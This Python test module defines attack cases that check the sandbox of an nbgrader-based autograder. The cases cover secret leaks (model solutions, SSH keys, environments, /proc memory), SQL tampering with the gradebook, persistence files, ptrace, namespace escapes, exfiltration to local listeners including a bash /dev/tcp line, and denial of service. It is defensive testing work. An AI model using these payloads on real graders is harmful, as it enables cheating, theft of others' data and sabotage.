"""Attacks on the machine that grades: its secrets, files, gradebook, network, processes and patience.

All of them are bounded: at most 8 GB of memory that is only reserved, 1 GB that is touched, 64 MB in a file, 200 forks;
what is started ends by itself within a minute.
"""

from tests.attacks.case import Case, forward, harmless, only_if, tells
from tests.attacks.detectors import (
    alters_course,
    alters_gradebook,
    earns_points,
    harms_others,
    is_heard,
    is_left_out,
    learns_a_secret,
    leaves_files,
    survives,
    takes_too_long,
)
from tests.test_nbgrader import FULL, NONE, RIGHT, adds, answers

MEMORY = "import re\n" + (  # every text of 32 hexadecimal digits in a process: seeds look like that
    "for line in open(f'/proc/{pid}/maps'):\n"
    "    start, end = (int(part, 16) for part in line.split()[0].split('-'))\n"
    "    if 'rw' in line and end - start < 2**26:\n"
    "        memory.seek(start)\n"
    "        if re.search(rb'canary-[a-z]+', memory.read(end - start)):\n"
    "            return True"
)

LEAKS = [
    Case(
        "solution",
        "The model solution is read and shown in the feedback.",
        tells(
            "open('@ROOT@/solutions/01_sample/01_sample.ipynb').read().split('canary-')[1][:9].join(['canary-', ''])"
        ),
        learns_a_secret,
    ),
    Case(
        "solution_run",
        "The model solution is read and run.",
        answers(
            linear_forward=(
                "import json\n"
                "for cell in json.load(open('@ROOT@/solutions/01_sample/01_sample.ipynb'))['cells']:\n"
                "    if 'def linear_forward' in ''.join(cell['source']):\n"
                "        exec(''.join(cell['source']))"
            )
        ),
    ),
    Case(
        "neighbour",
        "The answer is read from another student's submission.",
        answers(
            linear_forward=(
                "import json, glob\n"
                "path = glob.glob('@ROOT@/submitted/*honest/*/*.ipynb')[0]\n"
                "for cell in json.load(open(path))['cells']:\n"
                "    if 'def linear_forward' in ''.join(cell['source']):\n"
                "        exec(''.join(cell['source']))"
            )
        ),
    ),
    Case(
        "neighbour_shown",
        "Another student's submission is shown in the feedback.",
        tells("'canary-' + open('@ROOT@/submitted/a_honest/01_sample/01_sample.ipynb').read().split('canary-')[1][:9]"),
        learns_a_secret,
    ),
    Case(
        "secret_file",
        "A file outside the course is shown in the feedback.",
        tells("open('@BASE@/secret.txt').read()"),
        learns_a_secret,
    ),
    Case(
        "home",
        "A key in the instructor's home is shown in the feedback.",
        tells("open('@ROOT@/home/.ssh/id_rsa').read()"),
        learns_a_secret,
    ),
    Case(
        "environment",
        "The instructor's environment is shown in the feedback.",
        tells("' '.join(v for v in os.environ.values() if 'canary' in v)", "import os"),
        learns_a_secret,
    ),
    Case(
        "parents_environment",
        "The environment of the processes above is read.",
        only_if(
            "import os\n"
            "return any(b'canary-' in open(f'/proc/{pid}/environ', 'rb').read() "
            "for pid in (os.getpid(), os.getppid()) if os.path.exists(f'/proc/{pid}/environ'))"
        ),
    ),
    Case(
        "every_environment",
        "The environments of all processes are read.",
        only_if(
            "import glob\n"
            "for path in glob.glob('/proc/[0-9]*/environ'):\n"
            "    try:\n"
            "        if b'canary-' in open(path, 'rb').read():\n"
            "            return True\n"
            "    except OSError:\n"
            "        pass"
        ),
    ),
    Case(
        "seed",
        "The secret that the questions are drawn from is read.",
        only_if("import os\nreturn open('@ROOT@/.autograder_seed').read() or os.environ['AUTOGRADER_SEED']"),
    ),
    Case(
        "own_memory",
        "The seed is looked for in the process's own memory.",
        only_if(
            "import os\n"
            "pid, memory = os.getpid(), open('/proc/self/mem', 'rb', 0)\n"
            + MEMORY.replace("canary-[a-z]+", "canar[y]-seed")
        ),
    ),
    Case(
        "parents_memory",
        "The seed is looked for in the parent's memory.",
        only_if(
            "import os\n"
            "pid = os.getppid()\n"
            "memory = open(f'/proc/{pid}/mem', 'rb', 0)\n" + MEMORY.replace("canary-[a-z]+", "canar[y]-seed")
        ),
    ),
    Case(
        "siblings_memory",
        "The memory of every other process that can be opened is opened.",
        only_if(
            "import glob, os\n"
            "for path in glob.glob('/proc/[0-9]*/mem'):\n"
            "    try:\n"
            "        if path.split('/')[2] != str(os.getpid()) and open(path, 'rb', 0):\n"
            "            return True\n"
            "    except OSError:\n"
            "        pass"
        ),
    ),
    Case(
        "declarations",
        "The declarations of the exercises are imported.",
        answers(
            linear_forward=(
                "import sys\n"
                "sys.modules.pop('autograder', None)\n"
                "from autograder.exercises.linear import linear_forward as forward\n"
                "import torch\n"
                "linear_forward = lambda x, w, b: forward(*map(torch.tensor, (x, w, b))).numpy()"
            )
        ),
    ),
    Case(
        "declarations_file",
        "The file with the declarations is found on the disk.",
        only_if(
            "import glob, sys\n"
            "folders = ['@PACKAGE@', *(folder + '/autograder' for folder in sys.path)]\n"
            "return any(open(path).read() for folder in folders for path in glob.glob(folder + '/exercises/linear.py'))"
        ),
    ),
    Case(
        "references_in_memory",
        "A reference is found among the objects in memory.",
        only_if(
            "import gc\n"
            "return any(type(o).__name__ in ('Exercise', 'Question') or "
            "getattr(o, '__module__', None) in ('autograder.cases', 'autograder.exercises.linear') "
            "for o in gc.get_objects() if isinstance(o, (type, type(gc.collect), type(lambda: 0))) "
            "or type(o).__module__.startswith('autograder'))"
        ),
    ),
    Case(
        "questions_in_memory",
        "Questions to come are found in the memory of the process.",
        forward(
            "arrays = [o for o in gc.get_objects() if isinstance(o, dict) and 'inputs' in o and 'want' in o]\n"
            "return arrays[0]['want']",
            "import gc",
        ),
    ),
    Case(
        "descriptors",
        "A file of the course is reached through an open descriptor.",
        only_if(
            "import os\n"
            "for number in range(3, 256):\n"
            "    try:\n"
            "        if '@ROOT@' in os.readlink(f'/proc/self/fd/{number}'):\n"
            "            return True\n"
            "    except OSError:\n"
            "        pass"
        ),
    ),
    Case(
        "gradebook",
        "The grades of others are read.",
        only_if(
            "import sqlite3\n"
            "db = sqlite3.connect('file:@ROOT@/gradebook.db?mode=ro', uri=True)\n"
            "return db.execute('select * from grade').fetchall()"
        ),
    ),
]

SQL = "import sqlite3\ndb = sqlite3.connect('@ROOT@/gradebook.db', timeout=2)\n"
GRADEBOOK = [
    Case(
        "points",
        "Everybody's manual score is set.",
        harmless(SQL + "db.execute('update grade set manual_score = 2.0')\ndb.commit()"),
        alters_gradebook,
        FULL,
    ),
    Case(
        "extra_credit",
        "Everybody gets extra credit.",
        harmless(SQL + "db.execute('update grade set extra_credit = 10')\ndb.commit()"),
        earns_points,
        FULL,
    ),
    Case(
        "maximum",
        "The exercises are worth more.",
        harmless(SQL + "db.execute('update grade_cells set max_score = 100')\ndb.commit()"),
        alters_gradebook,
        FULL,
    ),
    Case(
        "student",
        "A student is enrolled.",
        harmless(SQL + "db.execute(\"insert into student (id, lms_user_id) values ('@MARK@', '')\")\ndb.commit()"),
        alters_gradebook,
        FULL,
    ),
    Case(
        "api",
        "nbgrader's own interface writes grades.",
        harmless(
            "from nbgrader.api import Gradebook\n"
            "with Gradebook('sqlite:///@ROOT@/gradebook.db', 'layer-by-layer') as gradebook:\n"
            "    gradebook.add_student('@MARK@')"
        ),
        alters_gradebook,
        FULL,
    ),
    Case(
        "rows",
        "Everybody's grades are deleted.",
        harmless(SQL + "db.execute('update grade set auto_score = 0, manual_score = null')\ndb.commit()"),
        harms_others,
        FULL,
    ),
    Case(
        "descriptor",
        "The gradebook is reached through an open descriptor.",
        harmless(
            "import os\n"
            "for number in range(3, 256):\n"
            "    try:\n"
            "        if '@ROOT@/gradebook' in os.readlink(f'/proc/self/fd/{number}'):\n"
            "            os.pwrite(number, b'@MARK@', 0)\n"
            "    except OSError:\n"
            "        pass"
        ),
        harms_others,
        FULL,
    ),
    Case(
        "locked",
        "A process that stays behind holds the gradebook locked.",
        harmless(
            "import subprocess, sys\n"
            "code = \"import sqlite3, time; db = sqlite3.connect('@ROOT@/gradebook.db'); \"\n"
            "code += \"db.execute('begin exclusive'); time.sleep(40)\"\n"
            "subprocess.Popen([sys.executable, '-c', code, '@MARK@'], start_new_session=True)\n"
            "import time; time.sleep(1)"
        ),
        harms_others,
        FULL,
    ),
    Case(
        "deleted",
        "The gradebook is deleted.",
        harmless("import os\nos.remove('@ROOT@/gradebook.db')"),
        harms_others,
        FULL,
    ),
]

TAMPERING = [
    Case(
        "submission",
        "Another student's submission is overwritten.",
        harmless("open('@ROOT@/submitted/z_honest/01_sample/01_sample.ipynb', 'w').write('@MARK@')"),
        alters_course,
        FULL,
    ),
    Case(
        "released",
        "The released lesson is overwritten.",
        harmless("open('@ROOT@/course/01_sample/01_sample.ipynb', 'a').write(' ')"),
        alters_course,
        FULL,
    ),
    Case(
        "solved",
        "The model solution is overwritten.",
        harmless("open('@ROOT@/solutions/01_sample/01_sample.ipynb', 'a').write(' ')"),
        alters_course,
        FULL,
    ),
    Case(
        "configuration",
        "nbgrader's configuration gets a line of the student's.",
        harmless("open('@ROOT@/nbgrader_config.py', 'a').write('\\n')"),
        alters_course,
        FULL,
    ),
    Case(
        "startup",
        "A start-up file is left for the instructor's next IPython.",
        harmless(
            "import pathlib\n"
            "for home in ('@ROOT@/home', pathlib.Path.home()):\n"
            "    folder = pathlib.Path(home) / '.ipython/profile_default/startup'\n"
            "    folder.mkdir(parents=True, exist_ok=True)\n"
            "    (folder / '@MARK@.py').write_text('')"
        ),
        leaves_files,
        FULL,
    ),
    Case(
        "package",
        "A file is left in the grader's package.",
        harmless("open('@PACKAGE@/@MARK@.txt', 'w').close()"),
        leaves_files,
        FULL,
    ),
    Case(
        "libraries",
        "A file is left among the installed libraries.",
        harmless("import os\nopen(os.path.dirname(os.path.dirname(np.__file__)) + '/@MARK@.txt', 'w').close()"),
        leaves_files,
        FULL,
    ),
    Case("tmp", "A file is left in /tmp.", harmless("open('/tmp/@MARK@', 'w').close()"), leaves_files, FULL),
    Case(
        "shared_memory",
        "A file is left in /dev/shm.",
        harmless("open('/dev/shm/@MARK@', 'w').close()"),
        leaves_files,
        FULL,
    ),
    Case(
        "own_folder", "A file is left beside the notebook.", harmless("open('@MARK@', 'w').close()"), leaves_files, FULL
    ),
    Case(
        "hidden_1",
        "An answer is left in every folder that can be written.",
        harmless(
            "import os\n"
            "for folder in ('/tmp', '/dev/shm', '/var/tmp', os.getcwd(), os.path.expanduser('~')):\n"
            "    try:\n"
            "        open(folder + '/answer-of-a-friend', 'w').close()\n"
            "    except OSError:\n"
            "        pass"
        ),
        worth=FULL,
    ),
    Case(
        "hidden_2",
        "The next student looks for it there.",
        only_if(
            "import os\n"
            "return any(os.path.exists(folder + '/answer-of-a-friend') "
            "for folder in ('/tmp', '/dev/shm', '/var/tmp', os.getcwd(), os.path.expanduser('~')))"
        ),
    ),
    Case(
        "bytecode",
        "Compiled modules are left for the next interpreter.",
        harmless(
            "import pathlib\n"
            "for folder in (pathlib.Path('@PACKAGE@'), pathlib.Path(np.__file__).parent):\n"
            "    (folder / '__pycache__' / '@MARK@.pyc').write_bytes(b'')"
        ),
        leaves_files,
        FULL,
    ),
    Case(
        "parent_code",
        "The parent's memory is written.",
        harmless(
            "import os\n"
            "pid = os.getppid()\n"
            "start = int(open(f'/proc/{pid}/maps').readline().split('-')[0], 16)\n"
            "with open(f'/proc/{pid}/mem', 'r+b', 0) as memory:\n"
            "    memory.seek(start)\n"
            "    memory.write(b'\\x7f')\n"
            "open('/tmp/@MARK@', 'w').close()"
        ),
        leaves_files,
        FULL,
    ),
    Case(
        "parent_memory",
        "The parent's memory can be opened for writing.",
        only_if("import os\nreturn open(f'/proc/{os.getppid()}/mem', 'r+b', 0)"),
    ),
    Case(
        "ptrace",
        "The parent is traced.",
        only_if(
            "import ctypes, os\n"
            "libc, parent = ctypes.CDLL(None), os.getppid()\n"
            "if libc.ptrace(16, parent, 0, 0) == 0:\n"
            "    os.waitpid(parent, 0x40000000)\n"
            "    libc.ptrace(17, parent, 0, 0)\n"
            "    return True"
        ),
    ),
    Case(
        "kill_parent",
        "The parent is killed.",
        harmless("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"),
        harms_others,
        FULL,
    ),
    Case(
        "stop_parent",
        "The parent is stopped, so that everybody waits.",
        harmless("import os, signal, time\nos.kill(os.getppid(), signal.SIGSTOP)\ntime.sleep(0.2)"),
        harms_others,
        FULL,
    ),
    Case(
        "kill_group",
        "The process group is killed.",
        harmless("import os, signal\nos.killpg(os.getpgrp(), signal.SIGKILL)"),
        harms_others,
        NONE,
    ),
    Case(
        "mount",
        "A file system of one's own is mounted and filled beyond the limits.",
        only_if(
            "import ctypes, os, tempfile\n"
            "libc = ctypes.CDLL(None)\n"
            "uid, gid = os.getuid(), os.getgid()\n"
            "if libc.unshare(0x10020000) == 0:\n"
            "    for name, text in (('setgroups', 'deny'), ('uid_map', f'0 {uid} 1'), ('gid_map', f'0 {gid} 1')):\n"
            "        open(f'/proc/self/{name}', 'w').write(text)\n"
            "folder = tempfile.mkdtemp().encode()\n"
            "private = libc.mount(None, b'/', None, 1 << 14 | 1 << 18, None) == 0\n"
            "if private and libc.mount(b'tmpfs', folder, b'tmpfs', 0, None) == 0:\n"
            "    open(folder + b'/x', 'wb').write(bytes(64 * 2**20))\n"
            "    return True"
        ),
    ),
    Case(
        "namespace",
        "A user namespace of one's own gives new rights.",
        only_if("import ctypes\nreturn ctypes.CDLL(None).unshare(0x10000000) == 0"),
    ),
    Case(
        "limits",
        "The process raises its own limits.",
        only_if(
            "import resource\n"
            "for kind in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):\n"
            "    resource.setrlimit(kind, (resource.RLIM_INFINITY,) * 2)\n"
            "return True"
        ),
    ),
    Case(
        "descriptor_written",
        "Every open descriptor is written to and closed.",
        harmless(
            "import os\n"
            "for number in range(3, 256):\n"
            "    try:\n"
            "        os.write(number, b'@MARK@') if os.isatty(number) or number > 64 else os.close(number)\n"
            "    except OSError:\n"
            "        pass"
        ),
        harms_others,
        FULL,
    ),
]

EGRESS = [
    Case(
        "tcp",
        "A connection to a listener outside.",
        harmless("import socket\nsocket.create_connection(('127.0.0.1', @PORT@), 2).sendall(b'@MARK@')"),
        is_heard,
        FULL,
    ),
    Case(
        "udp",
        "A datagram to a listener outside.",
        harmless("import socket\nsocket.socket(type=socket.SOCK_DGRAM).sendto(b'@MARK@', ('127.0.0.1', @PORT@))"),
        is_heard,
        FULL,
    ),
    Case(
        "http",
        "A request with the answers of others.",
        harmless("import urllib.request\nurllib.request.urlopen('http://127.0.0.1:@PORT@/@MARK@', timeout=2)"),
        is_heard,
        FULL,
    ),
    Case(
        "abstract",
        "A message to an abstract Unix socket.",
        harmless(
            "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0attacks-@PORT@')\ns.sendall(b'@MARK@')"
        ),
        is_heard,
        FULL,
    ),
    Case(
        "unix",
        "A message to a Unix socket in a folder outside.",
        harmless("import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('@BASE@/socket')\ns.sendall(b'@MARK@')"),
        is_heard,
        FULL,
    ),
    Case(
        "shell",
        "A shell connects.",
        harmless(
            "import subprocess\nsubprocess.run(['bash', '-c', 'echo @MARK@ > /dev/tcp/127.0.0.1/@PORT@'], timeout=2)"
        ),
        is_heard,
        FULL,
    ),
    Case(
        "magic",
        "A line with ! connects, in a cell of the student's own.",
        adds("!bash -c 'echo @MARK@ > /dev/tcp/127.0.0.1/@PORT@'"),
        is_heard,
        FULL,
    ),
    Case(
        "secret_sent",
        "A secret is sent away.",
        harmless(
            "import socket\n"
            "text = open('@BASE@/secret.txt').read()\n"
            "socket.create_connection(('127.0.0.1', @PORT@), 2).sendall(text.encode() + b'@MARK@')"
        ),
        learns_a_secret,
        FULL,
    ),
    Case(
        "later",
        "A process that stays behind connects later.",
        harmless(
            "import subprocess, sys\n"
            'code = "import socket, time; time.sleep(1.5); '
            "socket.create_connection(('127.0.0.1', @PORT@), 2).sendall(b'@MARK@')\"\n"
            "subprocess.Popen([sys.executable, '-c', code], start_new_session=True)"
        ),
        is_heard,
        FULL,
    ),
    Case(
        "pipe",
        "A named pipe carries it outside.",
        harmless("import os\nos.write(os.open('@BASE@/pipe', os.O_WRONLY | os.O_NONBLOCK), b'@MARK@')"),
        is_heard,
        FULL,
    ),
]

SLEEPER = "import sys, time; time.sleep(50)"
DENIAL = [
    Case("loop", "A loop without an end.", forward("while True: pass"), takes_too_long),
    Case(
        "loop_on_load",
        "A loop without an end while the cell is loaded.",
        answers(linear_forward="while True: pass"),
        takes_too_long,
    ),
    Case(
        "catches",
        "A loop that catches whatever is to end it.",
        forward("while True:\n    try:\n        while True: pass\n    except BaseException:\n        pass"),
        is_left_out,
    ),
    Case(
        "signals",
        "Every signal is ignored, then it waits.",
        forward(
            "for number in range(1, 65):\n"
            "    try:\n        signal.signal(number, signal.SIG_IGN)\n    except (OSError, ValueError):\n        pass\n"
            "signal.setitimer(signal.ITIMER_REAL, 0)\ntime.sleep(60)",
            "import signal, time",
        ),
        is_left_out,
    ),
    Case(
        "stops_itself",
        "The process stops itself.",
        forward("os.kill(os.getpid(), signal.SIGSTOP)", "import os, signal"),
        is_left_out,
    ),
    Case(
        "in_c",
        "A regular expression that takes hours, where Python cannot be interrupted.",
        forward("return re.match('(a+)+$', 'a' * 32 + 'b')", "import re"),
        is_left_out,
    ),
    Case(
        "slow_cells",
        "Twelve cells, each slower than a class has patience for.",
        adds(*["import time; time.sleep(8)"] * 12),
        takes_too_long,
        FULL,
    ),
    Case(
        "slow_answers",
        "Each answer takes all of its time.",
        answers(**{name: f"import time\ntime.sleep(20)\n{source}" for name, source in RIGHT.items()}),
        takes_too_long,
        FULL,
    ),
    Case("memory_reserved", "8 GB are reserved.", only_if("return np.empty(2**30).size")),
    Case(
        "memory_hidden",
        "1 GB in files that exist in memory only.",
        only_if(
            "import os\n"
            "files = [os.memfd_create('x') for _ in range(64)]\n"
            "return sum(os.write(file, bytes(16 * 2**20)) for file in files) == 2**30"
        ),
    ),
    Case(
        "file",
        "Files of 64 MB fill the disk.",
        only_if(
            "import os, tempfile\nwith tempfile.TemporaryFile() as file:\n    return file.write(bytes(64 * 2**20))"
        ),
    ),
    Case(
        "forks",
        "200 processes are forked.",
        only_if(
            "import os, time\n"
            "for number in range(200):\n"
            "    if not os.fork():\n"
            "        time.sleep(20)\n"
            "        os._exit(0)\n"
            "return True"
        ),
    ),
    Case(
        "daemon",
        "A process is started that survives its session.",
        harmless(
            "import subprocess, sys\n"
            f"subprocess.Popen([sys.executable, '-c', {SLEEPER!r}, '@MARK@'], start_new_session=True)"
        ),
        survives,
        FULL,
    ),
    Case(
        "forked_daemon",
        "A process forks twice and takes another name.",
        harmless(
            "import os, time\n"
            "if not os.fork():\n"
            "    os.setsid()\n"
            "    if not os.fork():\n"
            "        open('/proc/self/comm', 'w').write('@MARK@')\n"
            "        time.sleep(50)\n"
            "    os._exit(0)"
        ),
        survives,
        FULL,
    ),
    Case(
        "threads",
        "100 threads that never end.",
        forward(
            "for _ in range(100):\n    threading.Thread(target=time.sleep, args=(30,)).start()\nreturn x @ w.T + b",
            "import threading, time",
        ),
        takes_too_long,
        FULL,
    ),
    Case(
        "at_exit",
        "The process waits when it is to end.",
        harmless(
            "import atexit, threading, time\n"
            "atexit.register(time.sleep, 30)\n"
            "threading._register_atexit(time.sleep, 30)"
        ),
        takes_too_long,
        FULL,
    ),
    Case(
        "destructor",
        "The answer waits when it is deleted.",
        forward("return Slow()", "import time\nclass Slow:\n    __del__ = lambda self: time.sleep(30)"),
        takes_too_long,
    ),
    Case(
        "printed",
        "64 MB are printed.",
        forward("for _ in range(64): print('x' * 2**20)\nreturn x @ w.T + b"),
        takes_too_long,
        FULL,
    ),
    Case(
        "colours",
        "400,000 colour codes stand in an error message.",
        tells("'\\x1b[31mx\\x1b[0m' * 400_000"),
        takes_too_long,
    ),
    Case(
        "recursion",
        "A recursion that the interpreter does not survive.",
        forward(
            "sys.setrecursionlimit(10**8)\ny = []\nfor _ in range(10**6):\n    y = [y]\nreturn repr(y)", "import sys"
        ),
    ),
    Case("crash", "The process is made to crash.", forward("return ctypes.string_at(0)", "import ctypes")),
    Case("large_answer", "An answer of 100 million numbers.", forward("return np.zeros((10_000, 10_000))")),
    Case(
        "flood",
        "64 MB are written to every channel.",
        forward(
            "import os\n"
            "for number in range(3, 256):\n"
            "    try:\n"
            "        os.set_blocking(number, False)\n"
            "        os.write(number, bytes(64 * 2**20))\n"
            "    except OSError:\n"
            "        pass"
        ),
    ),
    Case(
        "trickle",
        "A message is announced and comes byte by byte.",
        forward(
            "import os, struct, time\n"
            "for step in range(300):\n"
            "    for number in range(3, 256):\n"
            "        try:\n"
            "            os.set_blocking(number, False)\n"
            "            os.write(number, struct.pack('<Q', 2**20) if not step else b'x')\n"
            "        except OSError:\n"
            "            pass\n"
            "    time.sleep(0.1)"
        ),
        takes_too_long,
    ),
]

CLASSES = {
    "leaks": LEAKS,
    "gradebook": GRADEBOOK,
    "tampering": TAMPERING,
    "egress": EGRESS,
    "denial_of_service": DENIAL,
}
